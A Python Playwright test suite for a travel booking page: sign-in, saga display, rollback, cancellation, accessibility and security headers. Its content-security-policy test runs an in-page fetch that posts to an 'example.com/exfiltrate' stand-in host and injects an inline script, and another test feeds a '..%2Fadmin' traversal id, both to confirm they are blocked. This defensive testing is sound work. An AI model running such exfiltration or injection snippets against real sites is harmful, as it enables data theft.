"""The booking page in a real browser: Debian's chromium, driven by Playwright, against the workspace's
page (site_url: CloudFront on AWS, the local workspace's stand-in for it here). A customer signs in with
their password (SRP against the user pool), books, watches the saga drawn, cancels; what the page shows
is checked against the tables and the API. Screenshots land in build/page/."""

from __future__ import annotations

import os
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, Route, expect, sync_playwright

from sagatools.client.bookings_api import BookingsApi
from sagatools.client.identity import sign_in
from sagatools.client.saga_client import SagaClient
from sagatools.client.workspaces import Workspace
from sagatools.contract.paths import ROOT
from tests.integration.conftest import RUN_ID

CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")  # Debian's package: `make browser` installs it
SHOTS = ROOT / "build" / "page"
PASSWORD = f"Page-{RUN_ID}-secret!"
# The colours of style.css, as the browser computes them: each status its own, the compensation path too.
COLOURS = {
    "done": "rgb(26, 127, 55)",
    "running": "rgb(5, 80, 174)",
    "failed": "rgb(207, 34, 46)",
    "undone": "rgb(102, 57, 186)",
    "not-run": "rgb(255, 255, 255)",
}
FORWARD = ["ReserveFlight", "ReserveHotel", "ProcessPayment", "ConfirmPayment", "ConfirmFlight", "ConfirmHotel"]
COMPENSATIONS = ["RefundPayment", "CancelHotel", "CancelFlight"]
CANCELLATION = ["CancelHotelBooking", "CancelFlightBooking", "RefundCharge"]
UNDONE = {"flight": "CANCELLED", "hotel": "CANCELLED", "payment": "REFUNDED"}  # what a rollback or a cancellation leaves
WAIT_MS = 120_000  # a booking's saga on the local workspace takes seconds; retries can take longer


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if shutil.which(CHROMIUM) is None:
        pytest.fail(f"{CHROMIUM} is missing: `make browser` installs Debian's chromium (as root)")
    SHOTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as playwright:
        # As root, chromium needs --no-sandbox; the rest keep it off this machine's closed network.
        flags = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"]
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=[*flags, "--disable-component-update", "--disable-sync"])
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def site_url(deployed: Workspace) -> str:
    url = deployed.outputs.get("site_url")
    assert url, f"workspace {deployed.name} has no booking page (site_url): it is deployed with the API's own user pool"
    return str(url)


@pytest.fixture(scope="module")
def password_of(deployed: Workspace) -> Callable[[str], str]:
    """A customer of this run with a known password (as `token.py NAME --password` sets one)."""

    def make(name: str) -> str:
        username = f"it-{RUN_ID}-{name}"
        sign_in(deployed, username, PASSWORD)
        return username

    return make


@pytest.fixture
def page(browser: Browser, site_url: str) -> Iterator[Page]:
    # The local workspace's CloudFront serves HTTPS with a certificate it made at start (self-signed).
    context = browser.new_context(ignore_https_errors=urlsplit(site_url).hostname == "127.0.0.1", viewport={"width": 1100, "height": 900})
    opened = context.new_page()
    yield opened
    context.close()


def open_signed_in(page: Page, site_url: str, username: str) -> None:
    page.goto(site_url)
    page.get_by_label("User name or e-mail").fill(username)
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator("#who-name")).to_have_text(username)


def book(page: Page, **faults: str) -> str:
    """Books the form's sample trip (with these faults chosen) and returns the booking id the page went to."""
    page.goto(page.url.split("#")[0] + "#/")
    for step, fault in faults.items():
        page.get_by_label(step, exact=True).select_option(fault)
    page.get_by_role("button", name="Book", exact=True).click()
    page.wait_for_url(re.compile(r"#/bookings/trip-[0-9a-f]{16}$"))
    return page.url.rsplit("/", 1)[1]


def wait_for_status(page: Page, status: str) -> None:
    expect(page.locator("#booking-status")).to_have_text(status, timeout=WAIT_MS)


def drawn(page: Page) -> dict[str, tuple[str, str]]:
    """Each step drawn: (its status, the fill the browser paints it with)."""
    steps = page.locator("#graph g.step")
    result = {}
    for index in range(steps.count()):
        step = steps.nth(index)
        fill = step.locator("rect").evaluate("rect => getComputedStyle(rect).fill")
        result[step.get_attribute("data-state") or ""] = (step.get_attribute("data-status") or "", fill)
    return result


def parts_shown(page: Page) -> dict[str, tuple[str, str]]:
    rows = page.locator("#parts tbody tr")
    shown = {}
    for index in range(rows.count()):
        cells = rows.nth(index).locator("td")
        shown[rows.nth(index).get_attribute("data-service") or ""] = (cells.nth(1).inner_text(), cells.nth(2).inner_text())
    return shown


def assert_parts_shown_as_stored(page: Page, saga: SagaClient, booking_id: str, statuses: dict[str, str]) -> None:
    """The tables hold each part in these statuses, and the page shows each part's status and reference as stored."""
    items = {service: (item["status"], item.get("reference") or "") for service, item in saga.items(booking_id).items() if item}
    assert {service: status for service, (status, _) in items.items()} == statuses
    assert parts_shown(page) == items


def test_a_customer_signs_in_with_their_password_only(page: Page, site_url: str, password_of: Callable[[str], str]) -> None:
    username = password_of("page-signin")
    page.goto(site_url)
    page.get_by_label("User name or e-mail").fill(username)
    page.get_by_label("Password", exact=True).fill(PASSWORD + "x")
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator("#sign-in-error")).to_have_text("Incorrect username or password.")
    expect(page.locator("#book")).to_be_hidden()

    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.keyboard.press("Enter")  # the form submits from the keyboard
    expect(page.locator("#who-name")).to_have_text(username)
    expect(page.get_by_role("heading", name="Book a trip")).to_be_visible()
    page.reload()  # the session lasts as long as the tab
    expect(page.locator("#who-name")).to_have_text(username)

    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()


def test_a_confirmed_booking_is_drawn_step_by_step_then_cancelled(
    page: Page, site_url: str, password_of: Callable[[str], str], saga: SagaClient
) -> None:
    open_signed_in(page, site_url, password_of("page-confirm"))
    booking_id = book(page)
    wait_for_status(page, "confirmed")

    steps = drawn(page)
    assert {state: steps[state][0] for state in FORWARD + COMPENSATIONS} == {
        **dict.fromkeys(FORWARD, "done"),
        **dict.fromkeys(COMPENSATIONS, "not-run"),
    }
    assert {fill for _, fill in (steps[state] for state in FORWARD)} == {COLOURS["done"]}
    assert_parts_shown_as_stored(page, saga, booking_id, dict.fromkeys(["flight", "hotel", "payment"], "CONFIRMED"))
    page.screenshot(path=SHOTS / "confirmed.png", full_page=True)

    page.get_by_role("link", name="Book another trip").click()
    expect(page.locator(f'#bookings tr[data-booking="{booking_id}"] td').nth(1)).to_have_text("confirmed")
    page.locator(f'#bookings a[href="#/bookings/{booking_id}"]').click()
    page.get_by_role("button", name="Cancel this booking").click()
    wait_for_status(page, "cancelled")

    steps = drawn(page)
    assert {state: steps[state][0] for state in CANCELLATION} == dict.fromkeys(CANCELLATION, "done")
    assert_parts_shown_as_stored(page, saga, booking_id, UNDONE)
    expect(page.get_by_role("button", name="Cancel this booking")).to_be_hidden()
    page.screenshot(path=SHOTS / "cancelled.png", full_page=True)


def test_a_payment_that_fails_is_drawn_with_its_compensation_path_in_its_own_colour(
    page: Page, site_url: str, password_of: Callable[[str], str], saga: SagaClient, faults_enabled: None
) -> None:
    open_signed_in(page, site_url, password_of("page-rollback"))
    booking_id = book(page, ProcessPayment="fail")
    wait_for_status(page, "rolled back")

    steps = drawn(page)
    assert {state: steps[state][0] for state in FORWARD + COMPENSATIONS} == {
        "ReserveFlight": "done",
        "ReserveHotel": "done",
        "ProcessPayment": "failed",
        **dict.fromkeys(["ConfirmPayment", "ConfirmFlight", "ConfirmHotel"], "not-run"),
        **dict.fromkeys(COMPENSATIONS, "undone"),
    }
    assert steps["ProcessPayment"][1] == COLOURS["failed"]
    assert {steps[state][1] for state in COMPENSATIONS} == {COLOURS["undone"]}
    assert len(set(COLOURS.values())) == len(COLOURS)  # the compensation path's colour is its own
    assert (saga.describe(booking_id) or {}).get("status") == "FAILED"
    assert saga.path(saga.execution_arn(booking_id)) == ["ReserveFlight", "ReserveHotel", "ProcessPayment", *COMPENSATIONS, "SagaFailed"]
    assert_parts_shown_as_stored(page, saga, booking_id, UNDONE)
    expect(page.get_by_role("button", name="Cancel this booking")).to_be_hidden()
    page.screenshot(path=SHOTS / "rolled-back.png", full_page=True)


def test_another_customers_bookings_never_appear(
    page: Page, site_url: str, password_of: Callable[[str], str], deployed: Workspace, new_request: Callable[..., dict[str, Any]]
) -> None:
    owner = sign_in(deployed, password_of("page-owner"), PASSWORD)
    theirs = new_request()
    del theirs["customer"]["customer_id"]  # the token's, as the API fills it in
    assert BookingsApi(deployed.outputs["api_url"], owner.access_token).create(theirs).status == 202

    open_signed_in(page, site_url, password_of("page-other"))
    expect(page.locator("#list-empty")).to_be_visible()
    assert page.locator("#bookings tbody tr").count() == 0
    mine = book(page)
    page.goto(f"{site_url}#/")
    expect(page.locator("#bookings tbody tr")).to_have_count(1)
    assert page.locator("#bookings tbody tr").get_attribute("data-booking") == mine

    page.goto(f"{site_url}#/bookings/{theirs['booking_id']}")  # their id, typed in
    expect(page.locator("#booking-error")).to_have_text("You have no booking with that id.")
    assert page.locator("#graph g.step[data-status]:not([data-status='not-run'])").count() == 0
    expect(page.locator("#cancel-button")).to_be_hidden()


def test_a_bad_form_is_refused_with_the_api_s_own_field_messages_and_nothing_is_booked(
    page: Page, site_url: str, password_of: Callable[[str], str], deployed: Workspace, saga: SagaClient
) -> None:
    username = password_of("page-badform")
    open_signed_in(page, site_url, username)
    bad = {"flight.origin": "Frankfurt", "hotel.rooms": "0", "payment.amount": "12.345", "customer.email": "ada"}
    for field, value in bad.items():
        page.locator(f'[id="{field}"]').fill(value)
    with page.expect_response(lambda response: response.request.method == "POST" and response.url.endswith("/bookings")) as posted:
        page.get_by_role("button", name="Book", exact=True).click()
    answer = posted.value
    assert answer.status == 400
    problem = answer.json()

    shown = {}
    for field in bad:
        box = page.locator(f'[id="{field}"]')
        expect(box).to_have_attribute("aria-invalid", "true")
        message = page.locator(f'[id="{field}-error"]')
        assert box.get_attribute("aria-describedby") == f"{field}-error"
        shown[f"#/{field.replace('.', '/')}"] = message.inner_text()
    assert shown == {error["pointer"]: error["detail"] for error in problem["errors"]}  # the API's words, each beside its field
    expect(page.locator("#book-error")).to_contain_text("4 fields need a change")
    assert "#/bookings/" not in page.url  # still on the form

    # The same request through the API says the same, and nothing was started or written for it.
    token = sign_in(deployed, username, PASSWORD)
    request = answer.request.post_data_json
    again = BookingsApi(deployed.outputs["api_url"], token.access_token).create(request)
    assert (again.status, again.body["errors"]) == (400, problem["errors"])
    assert saga.describe(request["booking_id"]) is None and not any(saga.items(request["booking_id"]).values())
    page.screenshot(path=SHOTS / "refused.png", full_page=True)


def test_a_lost_answer_then_an_edited_form_books_once_and_shows_the_booking_that_stands(
    page: Page, site_url: str, password_of: Callable[[str], str], deployed: Workspace
) -> None:
    """The POST reaches the API but its answer is lost; the customer edits the form and books again: the
    booking id is the same one, the API answers 409, and the page shows the booking that was made."""
    username = password_of("page-lost")
    open_signed_in(page, site_url, username)
    lost: list[str] = []

    def lose_the_first_answer(route: Route) -> None:
        if route.request.method == "POST" and not lost:
            lost.append(route.fetch().json()["booking_id"])  # it reached the API
            route.abort("connectionreset")
        else:
            route.continue_()

    page.route("**/bookings", lose_the_first_answer)
    page.get_by_role("button", name="Book", exact=True).click()
    expect(page.locator("#book-error")).to_contain_text("could not be sent")
    page.locator('[id="customer.name"]').fill("Ada King")
    page.get_by_role("button", name="Book", exact=True).click()
    page.wait_for_url(re.compile(r"#/bookings/trip-"))
    assert page.url.endswith(f"#/bookings/{lost[0]}")
    expect(page.locator("#booking-error")).to_contain_text("Your earlier request had already booked this trip")
    token = sign_in(deployed, username, PASSWORD)
    listed = BookingsApi(deployed.outputs["api_url"], token.access_token).list().body["bookings"]
    assert [booking["booking_id"] for booking in listed] == lost  # one booking, the first


def test_a_session_that_ends_asks_to_sign_in_again_and_signing_out_revokes_the_refresh_token(
    page: Page, site_url: str, password_of: Callable[[str], str], deployed: Workspace
) -> None:
    open_signed_in(page, site_url, password_of("page-session"))
    page.evaluate("() => sessionStorage.clear()")  # the tab's tokens are gone (as when they expire unrefreshed)
    page.get_by_role("button", name="Book", exact=True).click()
    expect(page.locator("#sign-in-error")).to_have_text("Your session has ended: sign in again.")

    open_signed_in(page, site_url, password_of("page-session"))
    refresh_token = page.evaluate("() => Object.entries(sessionStorage).find(([key]) => key.endsWith('.refreshToken'))[1]")
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    assert page.evaluate("() => sessionStorage.length") == 0
    cognito = deployed.client("cognito-idp")
    with pytest.raises(cognito.exceptions.NotAuthorizedException):
        cognito.initiate_auth(
            ClientId=deployed.outputs["user_pool_client_id"], AuthFlow="REFRESH_TOKEN_AUTH", AuthParameters={"REFRESH_TOKEN": refresh_token}
        )


def test_an_id_that_cannot_be_a_booking_s_is_said_to_be_none(page: Page, site_url: str, password_of: Callable[[str], str]) -> None:
    open_signed_in(page, site_url, password_of("page-badid"))
    page.goto(f"{site_url}#/bookings/..%2Fadmin")
    expect(page.locator("#booking-error")).to_have_text("You have no booking with that id.")
    expect(page.locator("#book")).to_be_hidden()


def test_the_page_holds_wcag_aa_as_axe_checks_it(page: Page, site_url: str, password_of: Callable[[str], str]) -> None:
    axe = Axe()
    options = {"runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]}}
    page.goto(site_url)
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    views = {"sign in": axe.run(page, options=options)}
    open_signed_in(page, site_url, password_of("page-axe"))
    views["booking form"] = axe.run(page, options=options)
    book(page)
    wait_for_status(page, "confirmed")
    views["booking"] = axe.run(page, options=options)
    violations = {
        view: [(v["id"], [node["target"] for node in v["nodes"]]) for v in result.response["violations"]] for view, result in views.items()
    }
    assert violations == {view: [] for view in views}
    assert all(result.response["passes"] for result in views.values())  # axe ran its rules, it did not skip them


def test_the_page_comes_with_its_security_headers_and_the_browser_enforces_its_content_security_policy(
    page: Page, site_url: str, deployed: Workspace
) -> None:
    answer = page.goto(site_url)
    assert answer is not None and answer.status == 200
    headers = answer.headers
    assert headers["strict-transport-security"].startswith("max-age=63072000")
    assert (headers["x-content-type-options"], headers["x-frame-options"], headers["referrer-policy"]) == ("nosniff", "DENY", "no-referrer")
    policy = dict(directive.strip().split(" ", 1) for directive in headers["content-security-policy"].split(";") if directive.strip())
    assert policy["default-src"] == "'none'" and policy["script-src"] == "'self'" and policy["frame-ancestors"] == "'none'"
    api_origin = "{0.scheme}://{0.netloc}".format(urlsplit(deployed.outputs["api_url"]))
    meta = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content") or ""
    # The page's own policy narrows connect-src: itself (config.json), the API, Cognito; nothing else.
    assert sorted(meta.removeprefix("connect-src ").split()) == sorted(["'self'", api_origin, config_cognito_origin(page)])

    # The browser refuses what the policy does not name: another origin, and script not from the page's own.
    outcome = page.evaluate(
        """async () => {
            const violations = [];
            document.addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective));
            let fetched = "allowed";
            try { await fetch("https://example.com/exfiltrate", { method: "POST", body: "x" }); } catch (error) { fetched = "refused"; }
            const script = document.createElement("script");
            script.textContent = "window.injected = true";
            document.body.append(script);
            await new Promise((resolve) => setTimeout(resolve, 200));
            return { fetched, injected: window.injected === true, violations };
        }"""
    )
    assert outcome["fetched"] == "refused" and outcome["injected"] is False
    assert {"connect-src", "script-src-elem"} <= set(outcome["violations"])


def config_cognito_origin(page: Page) -> str:
    config = page.evaluate("async () => (await fetch('config.json')).json()")
    return "{0.scheme}://{0.netloc}".format(urlsplit(config["cognitoEndpoint"]))


def test_the_page_is_its_files_and_nothing_else(site_url: str, page: Page) -> None:
    """What a first load costs: every request the page makes, all from its own origin, the API's or Cognito's."""
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(site_url)
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    page.wait_for_load_state("networkidle")
    own = "{0.scheme}://{0.netloc}".format(urlsplit(site_url))
    assert sorted(Path(urlsplit(url).path).name or "index.html" for url in requests if url.startswith(own)) == sorted(
        ["index.html", "style.css", "app.js", "amazon-cognito-identity.min.js", "config.json"]
    )
    assert all(url.startswith(own) for url in requests), requests
